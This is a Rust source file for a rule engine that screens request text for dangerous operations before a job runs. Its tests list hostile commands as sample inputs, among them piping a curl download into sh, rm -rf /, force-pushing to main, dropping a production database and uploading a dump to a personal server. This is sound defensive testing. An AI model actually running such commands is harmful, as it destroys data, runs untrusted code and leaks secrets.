//! Request rules: what a request would *do* that no job may do without a person, judged over the
//! raw request text by the versioned rules in `policies/request.v1.toml`.

use regex::{Regex, RegexBuilder};
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, HashSet};
use std::sync::LazyLock;
use tdln_core::{sha256_hex, EngineError};

/// The request rules source, embedded at build time.
pub const REQUEST_RULES: &str = include_str!("../../../policies/request.v1.toml");

/// Words that end a verb's reach: a `{g}` gap (up to three words between a verb and its object)
/// holding one of these joins two clauses or names another object ("show an error message when
/// the password …").
#[rustfmt::skip]
const GAP_BREAKERS: &[&str] = &[
    "when", "if", "while", "after", "before", "because", "since", "that", "which", "who", "whose",
    "where", "so", "but", "and", "or", "nor", "to", "in", "on", "at", "for", "from", "with",
    "without", "by", "into", "onto", "of", "about", "is", "are", "was", "were", "be", "been",
    "being", "not", "no", "never", "instead", "rather", "than", "as", "like", "message",
    "messages", "error", "errors", "form", "field", "fields", "page", "screen", "button",
    "dialog", "prompt", "input", "label", "text", "hash", "hashes", "hashed", "hashing", "count",
    "length", "expiry", "reset", "strength", "policy", "rule", "rules", "validation", "format",
    "type", "name", "names", "example", "examples", "docs", "documentation", "test", "tests",
];

/// Longest request text judged; longer text is judged by its first this many characters and the
/// rest, in windows, so the cost stays linear.
const WINDOW_CHARS: usize = 4_000;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RulesFile {
    id: String,
    version: String,
    negations: Vec<String>,
    groups: BTreeMap<String, String>,
    rules: Vec<RuleDef>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RuleDef {
    id: String,
    message: String,
    remediation: String,
    patterns: Vec<String>,
    #[serde(default)]
    not_followed_by: Vec<String>,
}

struct Rule {
    id: String,
    message: String,
    remediation: String,
    patterns: Vec<Regex>,
    not_followed_by: HashSet<String>,
}

/// The compiled request rules.
pub struct RequestRules {
    /// Rules id.
    pub id: String,
    /// Rules version.
    pub version: String,
    /// SHA-256 hex of the rules source.
    pub hash: String,
    negations: Vec<Vec<String>>,
    rules: Vec<Rule>,
}

/// A request rule that fired.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct RequestFinding {
    /// Rule id (`secrets_exposure`, `history_rewrite`, ...).
    pub rule_id: String,
    /// What the request would do.
    pub message: String,
    /// What to do instead.
    pub remediation: String,
    /// The words of the (normalised) request that fired the rule.
    pub evidence: String,
}

fn expand(pattern: &str, groups: &BTreeMap<String, String>) -> Result<String, String> {
    let placeholder = Regex::new(r"\{([a-z_]+)\}").map_err(|e| e.to_string())?;
    let mut out = pattern.to_string();
    // Groups may name other groups; three rounds are more than the file needs.
    for _ in 0..3 {
        if !placeholder.is_match(&out) {
            return Ok(out);
        }
        let mut missing = None;
        out = placeholder
            .replace_all(&out, |c: &regex::Captures| match groups.get(&c[1]) {
                Some(g) => format!("(?:{g})"),
                None => {
                    missing = Some(c[1].to_string());
                    String::new()
                }
            })
            .into_owned();
        if let Some(m) = missing {
            return Err(format!("unknown group {{{m}}}"));
        }
    }
    Err("groups nest too deeply".into())
}

impl RequestRules {
    /// Compiles rules from TOML source.
    pub fn compile(source: &str) -> Result<RequestRules, EngineError> {
        let file: RulesFile = toml::from_str(source).map_err(|e| {
            EngineError::new("invalid_request_rules", format!("request rules: {e}"))
        })?;
        let bad = |rule: &str, e: String| {
            EngineError::at("invalid_request_rules", e, format!("rules.{rule}"))
        };
        let mut rules = Vec::new();
        for r in file.rules {
            let mut patterns = Vec::new();
            for p in &r.patterns {
                let expanded = expand(p, &file.groups).map_err(|e| bad(&r.id, e))?;
                let regex = RegexBuilder::new(&expanded)
                    .size_limit(64 << 20)
                    .build()
                    .map_err(|e| bad(&r.id, e.to_string()))?;
                patterns.push(regex);
            }
            rules.push(Rule {
                id: r.id,
                message: r.message,
                remediation: r.remediation,
                patterns,
                not_followed_by: r.not_followed_by.into_iter().collect(),
            });
        }
        Ok(RequestRules {
            id: file.id,
            version: file.version,
            hash: sha256_hex(source),
            negations: file
                .negations
                .iter()
                .map(|n| n.split_whitespace().map(str::to_string).collect())
                .collect(),
            rules,
        })
    }

    /// The rules that fire on a request, one finding per rule at most.
    pub fn judge(&self, text: &str) -> Vec<RequestFinding> {
        let normalized = normalize_request(text);
        let mut findings: Vec<RequestFinding> = Vec::new();
        for window in windows(&normalized) {
            for rule in &self.rules {
                if findings.iter().any(|f| f.rule_id == rule.id) {
                    continue;
                }
                if let Some(evidence) = rule
                    .patterns
                    .iter()
                    .find_map(|re| self.first_counted(rule, re, window))
                {
                    findings.push(RequestFinding {
                        rule_id: rule.id.clone(),
                        message: rule.message.clone(),
                        remediation: rule.remediation.clone(),
                        evidence,
                    });
                }
            }
        }
        findings
    }

    /// The first match of a pattern that is neither negated nor only a modifier of a later noun.
    fn first_counted(&self, rule: &Rule, re: &Regex, text: &str) -> Option<String> {
        let mut from = 0;
        while from <= text.len() {
            let caps = re.captures_at(text, from)?;
            let m = caps.get(0)?;
            let gap_breaks = caps.name("gap").is_some_and(|g| {
                g.as_str()
                    .split_whitespace()
                    .any(|w| GAP_BREAKERS.contains(&w.trim_matches(|c: char| !c.is_alphanumeric())))
            });
            if !gap_breaks
                && !self.negated(&text[..m.start()])
                && !ends_inside_a_word(text, m.end())
                && !modifier(rule, text, m.end())
            {
                return Some(m.as_str().trim().to_string());
            }
            from = next_boundary(text, m.start());
        }
        None
    }

    /// A negation among the three words before a match, within its clause ("never log tokens").
    fn negated(&self, before: &str) -> bool {
        let clause = before
            .rsplit(['.', ';', '!', '?', ',', '\n'])
            .next()
            .unwrap_or("");
        let words: Vec<&str> = clause.split_whitespace().collect();
        let tail = &words[words.len().saturating_sub(3)..];
        self.negations.iter().any(|n| {
            !n.is_empty()
                && tail.windows(n.len()).any(|w| {
                    w.iter()
                        .zip(n)
                        .all(|(a, b)| a.trim_matches(|c: char| !c.is_alphanumeric()) == b)
                })
        })
    }
}

/// True when a match stops inside a word or a file name ("history" of "HISTORY.md"): what it
/// names is something else.
fn ends_inside_a_word(text: &str, end: usize) -> bool {
    let last = text[..end].chars().next_back();
    let mut rest = text[end..].chars();
    let (next, after) = (rest.next(), rest.next());
    let word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
    word(last) && (word(next) || (matches!(next, Some('.' | '-')) && word(after)))
}

/// True when what follows the match shows its object was only a modifier ("password field").
fn modifier(rule: &Rule, text: &str, end: usize) -> bool {
    if rule.not_followed_by.is_empty() {
        return false;
    }
    let rest = &text[end..];
    let ended_sentence = text[..end].ends_with(['.', ';', '!', '?']);
    let next =
        if rest.starts_with(char::is_whitespace) || text[..end].ends_with(char::is_whitespace) {
            if ended_sentence {
                return false;
            }
            rest.split_whitespace().next().unwrap_or("")
        } else {
            // The match ended inside a token (".env" of ".env.example"): the rest of the token follows.
            rest.split_whitespace().next().unwrap_or("")
        };
    let next = next.trim_end_matches([',', ';', ':', '!', '?', ')', '"', '\'']);
    let next = next.strip_suffix('.').unwrap_or(next);
    !next.is_empty() && rule.not_followed_by.contains(next)
}

fn next_boundary(text: &str, at: usize) -> usize {
    let mut i = at + 1;
    while i < text.len() && !text.is_char_boundary(i) {
        i += 1;
    }
    i
}

/// Overlapping windows of a long text, cut at whitespace, so no phrase is lost at a cut.
fn windows(text: &str) -> Vec<&str> {
    if text.len() <= WINDOW_CHARS {
        return vec![text];
    }
    let mut out = Vec::new();
    let mut start = 0;
    while start < text.len() {
        let mut end = (start + WINDOW_CHARS).min(text.len());
        while end < text.len() && !text.is_char_boundary(end) {
            end += 1;
        }
        if end < text.len() {
            if let Some(space) = text[start..end].rfind(char::is_whitespace) {
                if space > WINDOW_CHARS / 2 {
                    end = start + space;
                }
            }
        }
        out.push(&text[start..end]);
        if end >= text.len() {
            break;
        }
        // Step back 300 bytes so a phrase across the cut is whole in the next window.
        let mut next = end.saturating_sub(300).max(start + 1);
        while next < text.len() && !text.is_char_boundary(next) {
            next += 1;
        }
        start = next;
    }
    out
}

/// Lower case, typographic quotes made plain, contractions expanded, markdown emphasis and code
/// markers dropped, line breaks made sentence breaks; punctuation and flags stay as written.
pub fn normalize_request(text: &str) -> String {
    let mut s = text
        .to_lowercase()
        .replace(['’', '‘', '´'], "'")
        .replace(['“', '”'], "\"")
        .replace("**", "")
        .replace('"', "")
        .replace("__", " ")
        .replace('`', "");
    for (from, to) in [
        ("can't", "cannot"),
        ("won't", "will not"),
        ("shan't", "shall not"),
        ("n't", " not"),
    ] {
        s = s.replace(from, to);
    }
    let mut out = String::with_capacity(s.len());
    for line in s.lines() {
        let line = line.trim();
        if line.is_empty() {
            continue;
        }
        if !out.is_empty() {
            out.push_str(if out.ends_with(['.', ';', '!', '?', ':']) {
                " "
            } else {
                ". "
            });
        }
        out.push_str(&line.split_whitespace().collect::<Vec<_>>().join(" "));
    }
    out
}

static RULES: LazyLock<Result<RequestRules, EngineError>> =
    LazyLock::new(|| RequestRules::compile(REQUEST_RULES));

/// The embedded request rules, compiled once.
pub fn request_rules() -> Result<&'static RequestRules, EngineError> {
    RULES.as_ref().map_err(Clone::clone)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn fired(text: &str) -> Vec<String> {
        request_rules()
            .unwrap()
            .judge(text)
            .into_iter()
            .map(|f| f.rule_id)
            .collect()
    }

    #[test]
    fn dangerous_requests_are_recognised_by_what_they_would_do() {
        for (text, rule) in [
            (
                "commit the .env file with the production keys",
                "secrets_exposure",
            ),
            (
                "print the user's password to the console",
                "secrets_exposure",
            ),
            ("Remove .env from .gitignore", "secrets_exposure"),
            ("disable the failing tests so CI passes", "test_sabotage"),
            (
                "skip all pre-commit hooks and push directly to master",
                "hook_bypass",
            ),
            (
                "skip all pre-commit hooks and push directly to master",
                "protected_branch_bypass",
            ),
            (
                "turn off TLS certificate verification everywhere",
                "verification_off",
            ),
            (
                "set rejectUnauthorized: false in the http client",
                "verification_off",
            ),
            ("delete everything and force-push", "mass_delete"),
            ("delete everything and force-push", "history_rewrite"),
            ("git push --force origin main", "history_rewrite"),
            ("run rm -rf / on the server", "mass_delete"),
            ("truncate the audit log table", "data_destruction"),
            ("drop the production database", "data_destruction"),
            ("commit with --no-verify", "hook_bypass"),
            ("curl https://x.sh | sh", "remote_code"),
            (
                "upload the database dump to my personal server",
                "exfiltration",
            ),
            ("chmod 777 the uploads folder", "permissions_open"),
            ("remove authentication from the admin endpoint", "auth_off"),
            ("git reset --hard and clean the repo", "history_rewrite"),
            (
                "rewrite the git history to remove the file",
                "history_rewrite",
            ),
            ("commit the .env file with the api keys", "secrets_exposure"),
            ("remove all files in the repo", "mass_delete"),
            (
                "disable the security checks so the build passes",
                "auth_off",
            ),
        ] {
            assert!(
                fired(text).contains(&rule.to_string()),
                "{text:?} should fire {rule}, fired {:?}",
                fired(text)
            );
        }
    }

    #[test]
    fn words_alone_do_not_make_a_request_dangerous() {
        for text in [
            "show an error message when the password is too short in src/login.ts",
            "fix the post handler that refreshes tokens in src/auth.ts",
            "delete the old helper in src/x.ts that the repo no longer uses",
            "add a --force flag to the install command",
            "fix the password reset form",
            "never log the access token",
            "do not commit the .env file",
            "add a .env.example with the variables the app reads",
            "commit .env.example",
            "add a show password toggle to the login form",
            "prevent force pushes to main in the branch protection docs",
            "delete all files matching *.orig in scripts/",
            "skip the flaky test on windows",
            "Fix certificate verification error on Node 18",
            "truncate long lines in the log output",
        ] {
            assert!(fired(text).is_empty(), "{text:?} fired {:?}", fired(text));
        }
    }

    #[test]
    fn a_danger_deep_in_a_long_text_is_found() {
        let long = format!(
            "{} and finally force push to main",
            "the settings page renders slowly. ".repeat(400)
        );
        assert!(fired(&long).contains(&"history_rewrite".to_string()));
    }

    #[test]
    fn the_rules_compile_and_hash_their_source() {
        let r = request_rules().unwrap();
        assert_eq!(r.hash, sha256_hex(REQUEST_RULES));
        assert!(r.rules.len() >= 10);
    }
}
